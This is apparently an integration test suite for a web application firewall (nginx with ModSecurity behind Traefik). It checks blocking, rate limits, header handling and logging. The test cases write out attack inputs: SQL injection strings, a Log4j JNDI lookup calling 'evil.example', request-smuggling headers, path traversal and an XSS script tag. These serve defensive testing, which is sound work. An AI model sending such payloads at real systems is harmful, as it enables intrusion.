import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import process from 'node:process';
import { exclusions } from '../../../apps/edge-exclusions.ts';
import { usualLimits } from '../../../constructs/traefik-waf/index.ts';
import { ordinaryTraffic } from '../../../scripts/waf/ordinary-traffic.ts';
import { send } from '../../../scripts/waf/send.ts';
import type { Request } from '../../../scripts/waf/send.ts';
import type { LogEntry } from '../../../scripts/waf/instance.ts';
import { until } from '../../support/until.ts';
import { form, get, injection, json, nested, browser, raw, secret } from '../../support/waf-requests.ts';
import { lackingForWaf, releases, routeOf, WafLab } from '../../support/waf.ts';

// The files of its pods with nginx and ModSecurity as they are: Debian has them as nginx and libnginx-mod-http-modsecurity.
const describeHere = lackingForWaf() === undefined ? describe : describe.skip;

const shop = 'shop.example.com';
const api = 'api.example.com';
const fresh = 'fresh.example.com';
const parts = 'parts.example.com';
const shared = 'shared.example.com';
const parted = 'multipart/form-data; boundary="X"';
const part = (name: string, text = 'x', header = 'X-A: a'): string =>
  `--X\r\nContent-Disposition: form-data; name="${name}\r\n${header}\r\n\r\n${text}\r\n--X--\r\n`;

describeHere('the firewall with the real nginx, ModSecurity and rule set', () => {
  let lab: WafLab;
  const ask = async (host: string, request: Request) => send(lab.waf.port, host, request);
  const status = async (host: string, request: Request): Promise<number> => (await ask(host, request)).status;
  /** What it says of the request with that number. */
  const told = async (id: string | string[] | undefined): Promise<LogEntry> => {
    const entry = (): LogEntry | undefined => lab.waf.entries().find(({ request_id }) => request_id === id);
    await until(
      () => entry() !== undefined,
      () => `nothing is said of request ${String(id)}`,
    );
    return entry()!;
  };

  beforeAll(async () => {
    const silenced = exclusions(shop, api);
    const routes = [
      routeOf(shop, { staticPaths: ['/_next/static/'], contentSecurityPolicy: 'application' }, silenced),
      routeOf(api, {}, silenced),
      routeOf(fresh, { mode: 'detect', methods: ['GET'] }),
      routeOf(parts, {
        path: '/shop',
        methods: ['GET', 'OPTIONS'],
        limitedPaths: [{ path: '/shop/login', limits: 'auth' }],
      }),
      routeOf(shared, { to: releases(60, 40) }),
    ];
    // Slowly: a busy machine takes longer for six requests than one takes to be refilled.
    lab = await WafLab.start(routes, { ...usualLimits, auth: { requests: 1, perSeconds: 60, burst: 5, inFlight: 5 } });
  });
  afterAll(() => lab.stop());

  test('lets ordinary requests pass', async () => {
    const refused: string[] = [];
    for (const request of ordinaryTraffic) {
      // Whoever opens a WebSocket here gets an ordinary answer.
      const answered = await status(request.to === 'frontend' ? shop : api, request);
      if (answered !== 200) refused.push(`${request.name}: ${answered}`);
    }
    expect(refused).toEqual([]);
  });

  test.each<[string, Request, number]>([
    ['an injection in a query', get(`/?q=${encodeURIComponent(injection)}`), 403],
    ['one that is encoded twice', get(`/?q=${encodeURIComponent(encodeURIComponent(injection))}`), 403],
    ['one in the encoding of Microsoft', get('/?q=1%u0027%20or%201=1--'), 403],
    ['one in a body that is called text', form(`q=${injection}`, 'text/plain'), 403],
    ['one in a body that says nothing of itself', form(`q=${injection}`, ''), 403],
    ['one in JSON', json({ items: [{ note: injection }] }), 403],
    ['one in JSON of a maker of its own', json({ note: injection }, { 'Content-Type': 'application/x+json' }), 403],
    [
      'one in an action of Next.js',
      {
        ...form(JSON.stringify([{ q: injection }]), 'text/plain'),
        headers: { ...browser, 'Content-Type': 'text/plain', 'Next-Action': '7f' },
      },
      403,
    ],
    ['one in a cookie', get('/', { Cookie: `id=${injection}` }), 403],
    ['a look-up of Log4j in a header', get('/', { 'X-Api-Version': '${jndi:ldap://evil.example/x}' }), 403],
    ['another method by a header', get('/', { 'X-HTTP-Method-Override': 'DELETE' }), 403],
    ['a type that the route does not take', form('<a/>', 'application/xml'), 403],
    ['JSON in another alphabet', json({ a: 1 }, { 'Content-Type': 'application/json; charset=utf-7' }), 403],
    ['JSON that is none', json('{"a":'), 400],
    ['JSON of 40 levels', json(nested(40)), 400],
    ['JSON of more than 999 fields', json(Array.from({ length: 1100 }, (_, at) => at)), 400],
    ['a form of more than 999 fields', form(Array.from({ length: 1100 }, (_, at) => `a${at}=1`).join('&')), 400],
    ['a body that is packed', json('x', { 'Content-Encoding': 'gzip' }), 400],
    ['200 KiB of JSON', json({ a: 'word '.repeat(40_000) }), 413],
    [
      '11 MiB',
      { ...form('a'.repeat(11 * 2 ** 20)), headers: { ...browser, 'Content-Type': 'multipart/form-data; boundary=X' } },
      413,
    ],
    ['a header of 20 KiB', get('/', { 'X-Long': 'a'.repeat(20_000) }), 400],
    ['a part in another alphabet', form(part('a"', '+ADw-', 'Content-Type: text/plain; charset=utf-7'), parted), 403],
    ['an injection in a part', form(part('a"', injection), parted), 403],
    ['the name of a file that ends where it should not', form(part(`a"; filename="it's; a.pdf"`), parted), 403],
    ['something before the first part', form(`x\r\n${part('a"')}`, parted), 400],
    ['a part that is not of the body', form('--Y\r\n\r\nx', 'multipart/form-data; boundary=X'), 400],
  ])('refuses %s', async (_, request, expected) => {
    const before = lab.asked.length;
    expect(await status(shop, request)).toBe(expected);
    expect(lab.asked).toHaveLength(before);
  });

  test.each([
    ['two lengths', 'Content-Length: 4\r\nTransfer-Encoding: chunked', '0\r\n\r\n'],
    ['two different lengths', 'Content-Length: 4\r\nContent-Length: 5', 'abcd'],
    ['a length that is none', 'Content-Length: +4', 'abcd'],
    ['a coding that is none', 'Transfer-Encoding: xchunked', '0\r\n\r\n'],
    ['a line that is folded', 'X-A: a\r\n b', ''],
  ])('refuses a message with %s', async (_, header, body) => {
    const before = lab.asked.length;
    expect(
      await raw(lab.waf.port, `POST / HTTP/1.1\r\nHost: ${shop}\r\nConnection: close\r\n${header}\r\n\r\n${body}`),
    ).toMatch(/^HTTP\/1.1 (400|403|501) /);
    expect(lab.asked).toHaveLength(before);
  });

  test('looks at a body that comes in pieces, and hands it on in one', async () => {
    const piece = (text: string): string => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
    const message = (body: string): string =>
      `POST /orders HTTP/1.1\r\nHost: ${api}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n` +
      `Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${Array.from(body, piece).join('')}0\r\nX-Late: 1\r\n\r\n`;
    expect(await raw(lab.waf.port, message(JSON.stringify({ a: injection })))).toMatch(/^HTTP\/1.1 403 /);
    expect(await raw(lab.waf.port, message('{"a":1}'))).toMatch(/^HTTP\/1.1 200 /);
    expect(lab.asked.at(-1)).toMatchObject({ body: '{"a":1}', headers: { 'content-length': '7' } });
    expect(lab.asked.at(-1)?.headers).not.toHaveProperty('x-late');
  });

  test('tells the application who the client is, as Traefik says it, and nothing of what the client says', async () => {
    await ask(
      shop,
      get('/', {
        'X-Forwarded-For': '198.51.100.7, 203.0.113.9',
        'X-Real-Ip': '198.51.100.7',
        Forwarded: 'for=198.51.100.7',
        'X-Forwarded-Host': 'evil.example',
        'X-Forwarded-Proto': 'http',
        'X-Request-Id': 'mine',
      }),
    );
    const { headers } = lab.asked.at(-1)!;
    expect(headers).toMatchObject({
      host: shop,
      'x-forwarded-for': '203.0.113.9',
      'x-real-ip': '203.0.113.9',
      'x-forwarded-host': shop,
      'x-forwarded-proto': 'https',
    });
    expect(headers).not.toHaveProperty('forwarded');
    expect(headers['x-request-id']).toMatch(/^[0-9a-f]{32}$/);
  });

  test('lets nobody change to another protocol than WebSocket', async () => {
    await ask(shop, get('/', { Connection: 'Upgrade, HTTP2-Settings', Upgrade: 'h2c', 'HTTP2-Settings': 'AAMAAABk' }));
    expect(lab.asked.at(-1)?.headers).not.toHaveProperty('upgrade');
    await ask(shop, get('/', { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13' }));
    expect(lab.asked.at(-1)?.headers).toMatchObject({ upgrade: 'websocket', connection: 'upgrade' });
  });

  test('hands on events when they are sent', async () => {
    const first = await new Promise<string>((resolve, reject) => {
      const options = { port: lab.waf.port, host: '127.0.0.1', path: '/stream', headers: { Host: api, ...browser } };
      const asked = http.get(options, (response) => {
        response.once('data', (part: Buffer) => {
          resolve(part.toString());
          asked.destroy();
        });
      });
      asked.on('error', reject);
    });
    // The application never ends its answer.
    expect(first).toBe('data: 1\n\n');
  });

  test('asks no rules of static files, and hands on nothing that a rule would have looked at', async () => {
    const path = '/_next/static/chunks/%5Blocale%5D/page-1a2b.js?dpl=1';
    expect(await status(shop, get(path, { Cookie: injection, 'X-Evil': injection, 'If-None-Match': '"1a2b"' }))).toBe(
      200,
    );
    const { headers } = lab.asked.at(-1)!;
    expect(headers).toMatchObject({ host: shop, 'if-none-match': '"1a2b"' });
    expect(JSON.stringify(lab.asked.at(-1))).not.toContain('or 1=1');
    expect(headers).not.toHaveProperty('user-agent');
  });

  test.each<[string, Request]>([
    ['with a query', get(`/_next/static/a.js?q=${encodeURIComponent(injection)}`)],
    ['that leads out again', get('/_next/static/..%5c..%5capi')],
    ['with a body', { ...form('a=1'), path: '/_next/static/a.js' }],
    ['whose name begins with a dot', get('/_next/static/.env')],
  ])('refuses a static path %s', async (_, request) => {
    expect(await status(shop, request)).toBe(400);
  });

  test('takes dots of a path away before it chooses the route', async () => {
    expect(await status(shop, get(`/_next/static/../../?q=${encodeURIComponent(injection)}`))).toBe(403);
  });

  test('only tells what it would have refused on a route that it watches', async () => {
    const { status: answered, headers } = await ask(fresh, get(`/?q=${encodeURIComponent(injection)}`));
    expect(answered).toBe(200);
    expect(await told(headers['x-request-id'])).toMatchObject({ waf: 'detected', host: fresh, status: 200 });
    const other = await ask(fresh, { ...get('/'), method: 'DELETE' });
    expect(await told(other.headers['x-request-id'])).toMatchObject({ waf: 'detected', rules: [{ id: 911100 }] });
  });

  test('looks no further at too large a body on a route that it watches', async () => {
    const { status: answered, headers } = await ask(fresh, json({ a: `${injection} `.repeat(10_000) }));
    expect(answered).toBe(200);
    expect((await told(headers['x-request-id'])).rules.map(({ id }) => id)).toEqual([911100, 101002]);
  });

  test('holds each route to its own methods', async () => {
    expect(await status(parts, { ...get('/shop'), method: 'DELETE' })).toBe(403);
    expect(await status(shop, { ...get('/'), method: 'DELETE' })).toBe(200);
    expect(await status(shop, { ...get('/'), method: 'TRACE' })).toBe(405);
  });

  test('knows a part of a host, and nothing beside it', async () => {
    const paths = ['/shop', '/shop/1', '/shopping', '/'];
    expect(await Promise.all(paths.map((path) => status(parts, get(path))))).toEqual([200, 200, 404, 404]);
  });

  test('holds each client to what Traefik would forget of it, a network of IPv6 as one', async () => {
    const tried = async (path: string, clients: readonly string[]): Promise<number[]> => {
      const statuses: number[] = [];
      for (const client of clients) statuses.push(await status(parts, get(path, { 'X-Forwarded-For': client })));
      return statuses;
    };
    const often = (client: string): string[] => Array.from({ length: 6 }, () => client);
    expect(await tried('/shop/Login/%2e/', often('203.0.113.7'))).toEqual([200, 200, 200, 200, 200, 429]);
    expect(await tried('/shop/login', ['203.0.113.7', '203.0.113.8'])).toEqual([429, 200]);
    expect(
      await tried(
        '/shop/login',
        [1, 2, 3, 4, 5, 6].map((at) => `2001:db8:7:7:${at}::1`),
      ),
    ).toEqual([200, 200, 200, 200, 200, 429]);
    const asks = { ...get('/shop/login', { 'X-Forwarded-For': '203.0.113.7' }), method: 'OPTIONS' };
    expect(await status(parts, asks)).toBe(200);
    expect(await tried('/shop/logins', often('203.0.113.7'))).toEqual([200, 200, 200, 200, 200, 200]);
    expect(await tried('/shop/login', ['2001:db8:7:8::1'])).toEqual([200]);
  });

  test('answers 404 for hosts that nobody routes', async () => {
    expect(await status('other.example.com', get('/'))).toBe(404);
  });

  test('does not ask a field that is excluded, and asks the same field elsewhere', async () => {
    expect(await status(api, json({ query: injection }))).toBe(200);
    expect(await status(shop, json({ query: injection }))).toBe(403);
    expect(await status(api, json({ note: injection }))).toBe(403);
  });

  test('says which rules and fields, and nothing of what was in them', async () => {
    const answer = await ask(shop, {
      ...json({ user: { password: injection } }, { Cookie: `session=${secret}`, Authorization: `Bearer ${secret}` }),
      path: `/login?token=${secret}`,
    });
    const entry = await told(answer.headers['x-request-id']);
    expect(entry).toMatchObject({
      waf: 'blocked',
      host: shop,
      route: shop,
      method: 'POST',
      path: '/login',
      status: 403,
    });
    expect(entry.rules).toContainEqual(expect.objectContaining({ id: 942100, target: 'ARGS:json.user.password' }));
    expect(lab.waf.log() + lab.waf.errors()).not.toContain(secret);
  });

  test('sets the usual policy where the application sends none, on its own answers too', async () => {
    const own = (await ask(shop, get('/own-policy'))).headers['content-security-policy'];
    const none = (await ask(shop, get('/'))).headers['content-security-policy'];
    const refused = (await ask(shop, get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'))).headers['content-security-policy'];
    const broken = await ask(shop, get('/broken'));
    expect([own, none, refused]).toEqual(["default-src 'none'", expect.stringContaining("default-src 'self'"), none]);
    expect([broken.status, broken.headers['content-security-policy']]).toEqual([502, none]);
  });

  test('counts what it refused by route and rule', async () => {
    await ask(shop, get(`/?q=${encodeURIComponent(injection)}`));
    const numbers = async (): Promise<string> => (await fetch(`http://127.0.0.1:${lab.waf.adminPort}/metrics`)).text();
    const counted = `waf_rule_matches_total{route="${shop}",rule="942100",outcome="blocked"} `;
    // Written down every five seconds.
    await until(
      async () => (await numbers()).includes(counted),
      () => 'the rule is not among its numbers',
    );
    expect(await numbers()).toMatch(
      new RegExp(`^waf_requests_total\\{route="${shop}",outcome="blocked"\\} [1-9]`, 'm'),
    );
  });

  test('leads some of the clients to another release, each always to the same', async () => {
    const led = async (client: string): Promise<string | undefined> => {
      await ask(shared, get('/', { 'X-Forwarded-For': client }));
      return lab.asked.at(-1)?.release;
    };
    const clients = Array.from({ length: 20 }, (_, at) => `203.0.113.${at}`);
    const releases: (string | undefined)[] = [];
    for (const client of clients) releases.push(await led(client));
    expect(new Set(releases)).toEqual(new Set(['first', 'second']));
    for (const [index, client] of clients.slice(0, 5).entries()) expect(await led(client)).toBe(releases[index]);
  });

  test('says so before it ends a connection that is in use', async () => {
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const connection = (): Promise<string | undefined> =>
      new Promise((resolve, reject) => {
        const options = { port: lab.waf.port, host: '127.0.0.1', headers: { Host: parts }, agent };
        const asked = http.get(options, (response) => {
          resolve(response.headers.connection);
          response.resume();
        });
        asked.on('error', reject);
      });
    expect(await connection()).toBe('keep-alive');
    await until(
      async () => (await connection()) === 'close',
      () => 'the connection goes on',
    );
    agent.destroy();
  });

  test('ends when it is told to, with requests that are under way', async () => {
    const waiting = ask(api, get('/held'));
    await until(
      () => lab.asked.at(-1)?.url === '/held',
      () => 'the application was not asked',
    );
    process.kill(lab.waf.pid, 'SIGTERM');
    await until(
      () =>
        ask(api, get('/')).then(
          () => false,
          () => true,
        ),
      () => 'it takes new requests',
    );
    lab.release();
    expect((await waiting).status).toBe(200);
  });
});

describe('start.sh does not start', () => {
  const script = `${import.meta.dirname}/../../../constructs/traefik-waf/files/waf/start.sh`;
  const ended = (env: Record<string, string>): unknown => {
    const { status, stderr } = spawnSync('bash', [script], {
      env: { PATH: process.env.PATH, ...env },
      encoding: 'utf8',
    });
    return [status, stderr];
  };

  test('without a rule set, because that is no firewall', () => {
    expect(ended({ RULES: '/nowhere' })).toEqual([
      1,
      'start.sh: there is no rule set in /nowhere: the image is another one\n',
    ]);
  });

  test('without a nameserver, because it would find no application', () => {
    const rules = fs.mkdtempSync(`${os.tmpdir()}/rules-`);
    fs.writeFileSync(`${rules}/REQUEST-949-BLOCKING-EVALUATION.conf`, '');
    expect(ended({ RULES: rules, RESOLV_CONF: '/dev/null' })).toEqual([
      1,
      'start.sh: /dev/null names no nameserver: no application could be found\n',
    ]);
  });
});
